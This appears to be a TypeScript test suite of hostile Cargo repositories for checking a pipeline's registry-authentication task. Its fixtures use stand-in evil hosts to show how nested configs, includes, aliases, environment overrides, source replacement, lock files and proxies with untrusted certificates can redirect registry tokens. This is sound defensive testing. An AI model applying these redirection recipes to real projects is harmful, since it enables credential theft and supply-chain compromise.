import type { Addresses, HostileRepository, RepositoryFiles } from "../hostile-repository";
import { lookAlikes } from "./addresses";

type Files = (at: Addresses) => RepositoryFiles;

/** A package that depends on crates, as `name = …` lines. */
function manifest(dependencies: string, more = "", name = "app"): string {
  return `[package]\nname = "${name}"\nversion = "1.0.0"\nedition = "2021"\ndescription = "d"\nlicense = "MIT"\n\n[dependencies]\n${dependencies}\n${more}`;
}

const fromFiber = 'evil = { version = "1", registry = "fiber" }\n';
const own = 'fabrikam-greeting = { version = "1", registry = "fiber" }\n';

function registry(name: string, index: string): string {
  return `[registries.${name}]\nindex = "${index}"\n\n`;
}

const feedIndex = (at: Addresses): string => `sparse+${at.feed("Cargo/index/")}`;
const evilIndex = (at: Addresses, label?: string): string => `sparse+${at.evil("index/", label)}`;
const otherIndex = (at: Addresses): string => `sparse+${at.other("Cargo/index/")}`;

/** The project with its own feed as the registry `fiber`, and more: files beside it, or in the place of these. */
function project(more: (at: Addresses) => RepositoryFiles, dependencies = fromFiber): Files {
  return (at) => ({
    "Cargo.toml": manifest(dependencies),
    "src/lib.rs": "",
    ".cargo/config.toml": registry("fiber", feedIndex(at)),
    ...more(at),
  });
}

/** A package in a folder below, with a configuration of its own. */
function below(
  configuration: (at: Addresses) => string,
  dependencies = fromFiber,
  file = ".cargo/config.toml",
): Files {
  return project((at) => ({
    "Cargo.toml": '[workspace]\nmembers = []\nexclude = ["nested"]\n',
    "nested/Cargo.toml": manifest(dependencies, "", "nested"),
    "nested/src/lib.rs": "",
    [`nested/${file}`]: configuration(at),
  }));
}

const feeds = [{ task: "AuthenticateCargo@1", inputs: { feeds: "Fabrikam Fiber/fiber" } }];
const inNested = [{ task: "AuthenticateCargo@1", inputs: { workingDirectory: "nested" } }];

/** The name of an own registry at an evil host, where the task does not look or cannot. */
const names: readonly HostileRepository[] = [
  ...[
    "fetch",
    "generate-lockfile",
    "metadata --format-version 1",
    "update",
    "tree",
    "check",
    "vendor",
    "package --no-verify",
    "search --registry fiber x",
    "info --registry fiber x",
    "add --registry fiber x",
    "owner --registry fiber --list x",
    "yank --registry fiber x@1.0.0",
    "publish --registry fiber --no-verify --allow-dirty",
  ].map((command): HostileRepository => ({
    id: `cargo-nested-${command.split(" ")[0] ?? ""}`,
    title: `a configuration below that redefines the registry, for cargo ${command}`,
    files: below((at) => registry("fiber", evilIndex(at))),
    run: `cd nested && cargo ${command}`,
    expect: "asked",
  })),
  {
    id: "cargo-nested-install",
    title: "a program to install from an evil index, which is named by its address",
    files: below((at) => registry("fiber", evilIndex(at))),
    run: (at) => `cd nested && cargo install --index ${evilIndex(at)} x`,
    expect: "asked",
  },
  {
    id: "cargo-nested-open",
    title: "the same at a host that asks for nothing",
    files: below((at) => registry("fiber", evilIndex(at, "open"))),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-nested-old-name",
    title: "the same in .cargo/config",
    files: below((at) => registry("fiber", evilIndex(at)), fromFiber, ".cargo/config"),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-nested-inline",
    title: "the same as an inline table",
    files: below((at) => `registries = { fiber = { index = "${evilIndex(at)}" } }\n`),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-nested-dotted",
    title: "the same as dotted keys in quotes",
    files: below((at) => `registries."fiber"."index" = "${evilIndex(at)}"\n`),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-nested-provider",
    title: "the same with a credential provider",
    files: below((at) => `${registry("fiber", evilIndex(at))}credential-provider = "cargo:token"\n`),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-nested-capitals",
    title: "a registry below whose name is the same in capitals",
    files: below((at) => registry("FIBER", evilIndex(at)), 'evil = { version = "1", registry = "FIBER" }\n'),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-nested-punctuation",
    title: "a registry below whose name gives the same variables",
    files: (at) => ({
      ...below(
        (to) => registry("my_feed", evilIndex(to)),
        'evil = { version = "1", registry = "my_feed" }\n',
      )(at),
      ".cargo/config.toml": registry("my-feed", feedIndex(at)),
    }),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-nested-source",
    title: "a source below of the registry's name",
    files: below(
      (at) => `[source.fiber]\nregistry = "${evilIndex(at)}"\n\n[source.crates-io]\nreplace-with = "fiber"\n`,
      'evil = "1"\n',
    ),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-nested-of-source",
    title: "a registry below of the name of an own source",
    files: (at) => ({
      ...below((to) => registry("corp", evilIndex(to)), 'evil = { version = "1", registry = "corp" }\n')(at),
      ".cargo/config.toml": `[source.crates-io]\nreplace-with = "corp"\n\n[source.corp]\nregistry = "${feedIndex(at)}"\n`,
    }),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-nested-default",
    title: "a configuration below that also makes the registry the default",
    files: below((at) => `${registry("fiber", evilIndex(at))}[registry]\ndefault = "fiber"\n`),
    run: "cd nested && cargo publish --no-verify --allow-dirty",
    expect: "asked",
  },
  {
    id: "cargo-nested-feeds-input",
    title: "a configuration below with the name that the input's feed gets",
    files: (at) => ({
      "Cargo.toml": '[workspace]\nmembers = []\nexclude = ["nested"]\n',
      "nested/Cargo.toml": manifest(fromFiber, "", "nested"),
      "nested/src/lib.rs": "",
      "nested/.cargo/config.toml": registry("fiber", evilIndex(at)),
    }),
    tasks: feeds,
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-member",
    title: "a workspace member whose folder redefines the registry",
    files: project((at) => ({
      "Cargo.toml": '[workspace]\nmembers = ["member"]\n',
      "member/Cargo.toml": manifest(fromFiber, "", "member"),
      "member/src/lib.rs": "",
      "member/.cargo/config.toml": registry("fiber", evilIndex(at)),
    })),
    run: "cd member && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-late",
    title: "a configuration that a step puts in place after the task",
    files: project((at) => ({ "late.toml": registry("fiber", evilIndex(at)) })),
    run: "mv late.toml .cargo/config.toml\ncargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-old-name-late",
    title: "a .cargo/config that a step puts in place after the task",
    files: project((at) => ({ "late.toml": registry("fiber", evilIndex(at)) })),
    run: "mv late.toml .cargo/config\ncargo fetch",
    expect: "asked",
  },
];

/** `include` of Cargo's configuration. */
const includes: readonly HostileRepository[] = [
  ...[
    ["list", 'include = ["more.toml"]\n'],
    ["text", 'include = "more.toml"\n'],
    ["table", 'include = [{ path = "more.toml" }]\n'],
    ["optional", 'include = [{ path = "more.toml", optional = true }]\n'],
    ["up", 'include = ["../../more.toml"]\n'],
  ].map(([slug = "", line = ""]): HostileRepository => ({
    id: `cargo-include-${slug}`,
    title: `a nearer configuration that includes (${slug}) one which redefines the registry`,
    files: (at) => ({
      ...below(() => line)(at),
      "nested/.cargo/more.toml": registry("fiber", evilIndex(at)),
      "more.toml": registry("fiber", evilIndex(at)),
    }),
    tasks: inNested,
    run: "cd nested && cargo fetch",
    expect: slug === "text" ? "quiet" : "asked",
  })),
  {
    id: "cargo-include-same-file",
    title: "a configuration that includes one which redefines its registry",
    files: project((at) => ({
      ".cargo/config.toml": `include = ["more.toml"]\n\n${registry("fiber", feedIndex(at))}`,
      ".cargo/more.toml": registry("fiber", evilIndex(at)),
    })),
    run: "cargo fetch",
    expect: "quiet",
  },
  {
    id: "cargo-include-chain",
    title: "a chain of includes at whose end the registry is redefined",
    files: (at) => ({
      ...below(() => 'include = ["one.toml"]\n')(at),
      "nested/.cargo/one.toml": 'include = ["two.toml"]\n',
      "nested/.cargo/two.toml": registry("fiber", evilIndex(at)),
    }),
    tasks: inNested,
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-include-source",
    title: "an included configuration that takes the place of the feed's source",
    files: project((at) => ({
      ".cargo/config.toml": `include = ["more.toml"]\n\n${registry("fiber", feedIndex(at))}`,
      ".cargo/more.toml": `[source.feed]\nregistry = "${feedIndex(at)}"\nreplace-with = "evil"\n\n[source.evil]\nregistry = "${evilIndex(at)}"\n`,
    })),
    run: "cargo fetch",
    expect: "asked",
  },
];

/** Options that the repository gives to Cargo. */
const options: readonly HostileRepository[] = [
  {
    id: "cargo-alias",
    title: "an alias that gives --config",
    files: project((at) => ({
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[alias]\nget = ["fetch", "--config", "registries.fiber.index='${evilIndex(at)}'"]\n`,
    })),
    run: "cargo get",
    expect: "asked",
  },
  {
    id: "cargo-alias-before",
    title: "an alias that gives --config before the command",
    files: project((at) => ({
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[alias]\nget = ["--config", "registries.fiber.index='${evilIndex(at)}'", "fetch"]\n`,
    })),
    run: "cargo get",
    expect: "asked",
  },
  {
    id: "cargo-alias-file",
    title: "an alias that gives --config with a file",
    files: project((at) => ({
      "evil.toml": registry("fiber", evilIndex(at)),
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[alias]\nget = ["fetch", "--config", "evil.toml"]\n`,
    })),
    run: "cargo get",
    expect: "asked",
  },
  {
    id: "cargo-alias-nested",
    title: "such an alias below",
    files: below(
      (at) => `[alias]\nget = ["fetch", "--config", "registries.fiber.index='${evilIndex(at)}'"]\n`,
    ),
    run: "cd nested && cargo get",
    expect: "asked",
  },
  {
    id: "cargo-alias-token",
    title: "an alias that gives a registry of its own name the token's provider",
    files: project((at) => ({
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[alias]\nget = ["fetch", "--config", "registries.evil.index='${evilIndex(at)}'", "--config", "registries.evil.credential-provider='cargo:token'"]\n`,
      "Cargo.toml": manifest('evil = { version = "1", registry = "evil" }\n'),
    })),
    run: "cargo get",
    expect: "quiet",
  },
  {
    id: "cargo-environment",
    title: "[env] that redefines the registry",
    files: project((at) => ({
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[env]\nCARGO_REGISTRIES_FIBER_INDEX = { value = "${evilIndex(at)}", force = true }\n`,
    })),
    run: "cargo fetch",
    expect: "quiet",
  },
  {
    id: "cargo-environment-include",
    title: "[env] that moves Cargo's home",
    files: project((at) => ({
      "home/config.toml": registry("fiber", evilIndex(at)),
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[env]\nCARGO_HOME = { value = "home", force = true, relative = true }\n`,
    })),
    run: "cargo fetch",
    expect: "quiet",
  },
  {
    id: "cargo-default-evil",
    title: "an evil default registry",
    files: project((at) => ({
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}${registry("evil", evilIndex(at))}[registry]\ndefault = "evil"\n`,
    })),
    run: "cargo publish --no-verify --allow-dirty",
    expect: "quiet",
  },
  {
    id: "cargo-global-provider",
    title: "a global credential provider and an evil registry",
    files: project((at) => ({
      "Cargo.toml": manifest('evil = { version = "1", registry = "evil" }\n'),
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}${registry("evil", evilIndex(at))}[registry]\nglobal-credential-providers = ["cargo:token"]\n`,
    })),
    run: "cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-credential-alias",
    title: "an alias of a credential provider",
    files: project((at) => ({
      "Cargo.toml": manifest('evil = { version = "1", registry = "evil" }\n'),
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}${registry("evil", evilIndex(at))}credential-provider = "mine"\n\n[credential-alias]\nmine = ["cargo:token"]\n`,
    })),
    run: "cargo fetch",
    expect: "quiet",
  },
];

/** Sources, patches and lock files. */
const sources: readonly HostileRepository[] = [
  {
    id: "cargo-source-same-name",
    title: "an evil source of the registry's name",
    files: project(
      (at) => ({
        ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[source.fiber]\nregistry = "${evilIndex(at)}"\n\n[source.crates-io]\nreplace-with = "fiber"\n`,
      }),
      'evil = "1"\n',
    ),
    run: "cargo fetch",
    expect: "quiet",
  },
  {
    id: "cargo-source-replaced",
    title: "the feed's source replaced by an evil one",
    files: project((at) => ({
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[source.feed]\nregistry = "${feedIndex(at)}"\nreplace-with = "evil"\n\n[source.evil]\nregistry = "${evilIndex(at)}"\n`,
    })),
    run: "cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-source-chain",
    title: "crates.io replaced by the feed, and that by an evil source",
    files: project(
      (at) => ({
        ".cargo/config.toml": `[source.crates-io]\nreplace-with = "feed"\n\n[source.feed]\nregistry = "${feedIndex(at)}"\nreplace-with = "evil"\n\n[source.evil]\nregistry = "${evilIndex(at)}"\n`,
      }),
      'evil = "1"\n',
    ),
    run: "cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-source-registry",
    title: "the feed's source replaced by an evil registry",
    files: project((at) => ({
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}${registry("evil", evilIndex(at))}[source.feed]\nregistry = "${feedIndex(at)}"\nreplace-with = "evil"\n`,
    })),
    run: "cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-source-other",
    title: "the feed's source replaced by another organization's",
    files: project((at) => ({
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[source.feed]\nregistry = "${feedIndex(at)}"\nreplace-with = "other"\n\n[source.other]\nregistry = "${otherIndex(at)}"\n`,
    })),
    run: "cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-registry-index",
    title: "a dependency by the evil index's address",
    files: project(() => ({}), ""),
    run: (at) =>
      `echo 'evil = { version = "1", registry-index = "${evilIndex(at)}" }' >> Cargo.toml\ncargo fetch`,
    expect: "asked",
  },
  {
    id: "cargo-patch",
    title: "a patch from an evil index",
    files: (at) => ({
      ...project(() => ({}), own)(at),
      "Cargo.toml": manifest(
        own,
        `[patch.fiber]\nfabrikam-greeting = { version = "1", registry-index = "${evilIndex(at)}" }\n`,
      ),
    }),
    run: "cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-lock",
    title: "a Cargo.lock that has a crate of an evil index",
    files: (at) => ({
      ...project(() => ({}))(at),
      "Cargo.lock": `version = 4\n\n[[package]]\nname = "app"\nversion = "1.0.0"\ndependencies = [\n "evil",\n]\n\n[[package]]\nname = "evil"\nversion = "1.0.0"\nsource = "${evilIndex(at)}"\nchecksum = "${"0".repeat(64)}"\n`,
    }),
    run: "cargo fetch",
    expect: "quiet",
  },
  {
    id: "cargo-git",
    title: "a Git dependency at another organization",
    files: project(() => ({}), ""),
    run: (at) => `echo 'evil = { git = "${at.other("_git/x")}" }' >> Cargo.toml\ncargo fetch`,
    expect: "quiet",
  },
  {
    id: "cargo-git-index",
    title: "a registry below whose index is a Git repository",
    files: below((at) => registry("fiber", at.evil("index.git"))),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-other",
    title: "a registry of another organization",
    files: project(
      (at) => ({
        ".cargo/config.toml": `${registry("fiber", feedIndex(at))}${registry("parts", otherIndex(at))}`,
      }),
      'evil = { version = "1", registry = "parts" }\n',
    ),
    run: "cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-other-server",
    title: "a registry of another collection",
    face: "server",
    files: project(
      (at) => ({
        ".cargo/config.toml": `${registry("fiber", feedIndex(at))}${registry("parts", otherIndex(at))}`,
      }),
      'evil = { version = "1", registry = "parts" }\n',
    ),
    run: "cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-other-nested",
    title: "a registry below that redefines the name for another organization",
    files: below((at) => registry("fiber", otherIndex(at))),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-other-nested-server",
    title: "a registry below that redefines the name for another collection",
    face: "server",
    files: below((at) => registry("fiber", otherIndex(at))),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-port-nested-server",
    title: "a registry below that redefines the name for another port",
    face: "server",
    files: below((at) => registry("fiber", `sparse+${at.loopback("DefaultCollection/index/")}`)),
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-variable",
    title: "a registry whose index the job's variables redefine",
    files: project(() => ({})),
    variables: (at) => ({ CARGO_REGISTRIES_FIBER_INDEX: evilIndex(at) }),
    run: "cargo fetch",
    expect: "asked",
  },
];

/** TLS and proxies of the repository's choice. */
function withHttp(settings: (at: Addresses) => string): Files {
  return project(
    (at) => ({
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[http]\n${settings(at)}\n`,
      "authority.pem": at.untrustedAuthority,
    }),
    own,
  );
}

const withoutMachine = ["HTTPS_PROXY", "HTTP_PROXY", "http_proxy", "CARGO_HTTP_CAINFO", "SSL_CERT_FILE"];

const tls: readonly HostileRepository[] = [
  {
    id: "cargo-proxy-cainfo",
    title: "a proxy and an authority",
    files: withHttp((at) => `proxy = "${at.proxy}"\ncainfo = "authority.pem"`),
    without: withoutMachine,
    run: "cargo fetch",
    expect: "refused",
  },
  {
    id: "cargo-proxy-cainfo-variables",
    title: "a proxy and an authority, and a pipeline that says otherwise",
    files: withHttp((at) => `proxy = "${at.proxy}"\ncainfo = "authority.pem"`),
    variables: (at) => ({ CARGO_HTTP_PROXY: `http://127.0.0.1:${at.machineProxyPort}` }),
    run: "cargo fetch",
    expect: "works",
  },
  {
    id: "cargo-proxy-cainfo-machine",
    title: "a proxy and an authority, on a machine that has both",
    files: withHttp((at) => `proxy = "${at.proxy}"\ncainfo = "authority.pem"`),
    run: "cargo fetch",
    expect: "quiet",
  },
  {
    id: "cargo-proxy-cainfo-nested",
    title: "a proxy and an authority in a folder below",
    files: (at) => ({
      ...below((to) => `[http]\nproxy = "${to.proxy}"\ncainfo = "authority.pem"\n`, own)(at),
      "nested/authority.pem": at.untrustedAuthority,
    }),
    without: withoutMachine,
    run: "cd nested && cargo fetch",
    expect: "asked",
  },
  {
    id: "cargo-proxy-cainfo-include",
    title: "a proxy and an authority in an included file",
    files: project(
      (at) => ({
        ".cargo/config.toml": `include = ["more.toml"]\n\n${registry("fiber", feedIndex(at))}`,
        ".cargo/more.toml": `[http]\nproxy = "${at.proxy}"\ncainfo = "authority.pem"\n`,
        "authority.pem": at.untrustedAuthority,
      }),
      own,
    ),
    without: withoutMachine,
    run: "cargo fetch",
    expect: "refused",
  },
  {
    id: "cargo-proxy-alone",
    title: "a proxy alone",
    files: withHttp((at) => `proxy = "${at.proxy}"`),
    without: withoutMachine,
    run: "cargo fetch",
    expect: "quiet",
  },
  {
    id: "cargo-cainfo-alone",
    title: "an authority alone",
    files: withHttp(() => 'cainfo = "authority.pem"'),
    run: "unset CARGO_HTTP_CAINFO\ncargo fetch",
    expect: "quiet",
  },
  {
    id: "cargo-proxy-server",
    title: "a proxy, and a feed that is reached by http",
    face: "server",
    files: withHttp((at) => `proxy = "${at.proxy}"`),
    run: "cargo fetch",
    expect: "refused",
  },
  {
    id: "cargo-debug",
    title: "http.debug, which makes Cargo log what it sends",
    files: withHttp(() => "debug = true"),
    run: "CARGO_LOG=network=trace cargo fetch",
    expect: "quiet",
  },
];

/** Projects that mean no harm, and must go on working. */
const innocent: readonly HostileRepository[] = [
  {
    id: "cargo-innocent-provider",
    title: "its own registry with a credential provider",
    files: project(
      (at) => ({
        ".cargo/config.toml": `${registry("fiber", feedIndex(at))}credential-provider = "cargo:token"\n`,
      }),
      own,
    ),
    run: "cargo fetch",
    expect: "works",
  },
  {
    id: "cargo-innocent-global-provider",
    title: "its own registry and global credential providers",
    files: project(
      (at) => ({
        ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[registry]\nglobal-credential-providers = ["cargo:token"]\n`,
      }),
      own,
    ),
    run: "cargo fetch",
    expect: "works",
  },

  {
    id: "cargo-innocent",
    title: "its own registry",
    files: project(() => ({}), own),
    run: "cargo fetch",
    expect: "works",
  },
  {
    id: "cargo-innocent-nested",
    title: "its own registry, declared again below",
    files: below((at) => registry("fiber", feedIndex(at)), own),
    run: "cd nested && cargo fetch",
    expect: "works",
  },
  {
    id: "cargo-innocent-nested-name",
    title: "its own registry, declared below by another name as well",
    files: below((at) => registry("corp", feedIndex(at)), own),
    run: "cd nested && cargo fetch",
    expect: "works",
  },
  {
    id: "cargo-innocent-feeds-nested",
    title: "the input's feed, which a configuration below declares by its own name",
    files: (at) => ({
      "Cargo.toml": '[workspace]\nmembers = []\nexclude = ["nested"]\n',
      "nested/Cargo.toml": manifest('fabrikam-greeting = "1"\n', "", "nested"),
      "nested/src/lib.rs": "",
      "nested/.cargo/config.toml": registry("corp", feedIndex(at)),
    }),
    tasks: feeds,
    run: "cd nested && cargo fetch",
    expect: "works",
  },
  {
    id: "cargo-innocent-replacement",
    title: "crates.io replaced by the feed",
    files: project(
      (at) => ({
        ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[source.crates-io]\nreplace-with = "fiber"\n`,
      }),
      'upstream-basics = "2"\n',
    ),
    run: "cargo fetch",
    expect: "works",
  },
  {
    id: "cargo-innocent-include",
    title: "a registry in an included file",
    files: project(
      (at) => ({
        ".cargo/config.toml": 'include = ["registries.toml"]\n',
        ".cargo/registries.toml": registry("fiber", feedIndex(at)),
      }),
      own,
    ),
    run: "cargo fetch",
    expect: "works",
  },
  {
    id: "cargo-innocent-second",
    title: "a second registry of another host",
    files: project(
      (at) => ({
        ".cargo/config.toml": `${registry("fiber", feedIndex(at))}${registry("other", evilIndex(at))}`,
      }),
      own,
    ),
    run: "cargo fetch",
    expect: "works",
  },
  {
    id: "cargo-innocent-two",
    title: "two feeds of the organization",
    files: project(
      (at) => ({
        ".cargo/config.toml": `${registry("fiber", feedIndex(at))}${registry("shared", `sparse+${at.shared("Cargo/index/")}`)}`,
      }),
      `${own}shared-greeting = { version = "1", registry = "shared" }\n`,
    ),
    run: "cargo fetch",
    expect: "works",
  },
  {
    id: "cargo-innocent-publish",
    title: "a crate to publish",
    files: (at) => ({ ...project(() => ({}), "")(at), "Cargo.toml": manifest("", "", "lab-published") }),
    run: "cargo publish --registry fiber --no-verify --allow-dirty",
    expect: "works",
  },
];

const addresses = lookAlikes.map(({ slug, title, address, face, expect }): HostileRepository => ({
  id: `cargo-address-${slug}`,
  title: `a registry at ${title}`,
  ...(face === undefined ? {} : { face }),
  files: project(
    (at) => ({
      ".cargo/config.toml": `${registry("fiber", feedIndex(at))}[registries.look]\nindex = ${JSON.stringify(`sparse+${address(at, "Cargo/index/")}`)}\n`,
    }),
    'evil = { version = "1", registry = "look" }\n',
  ),
  run: "cargo fetch",
  expect: expect ?? "quiet",
}));

export const cargoRepositories: readonly HostileRepository[] = [
  ...names,
  ...includes,
  ...options,
  ...sources,
  ...tls,
  ...addresses,
  ...innocent,
];
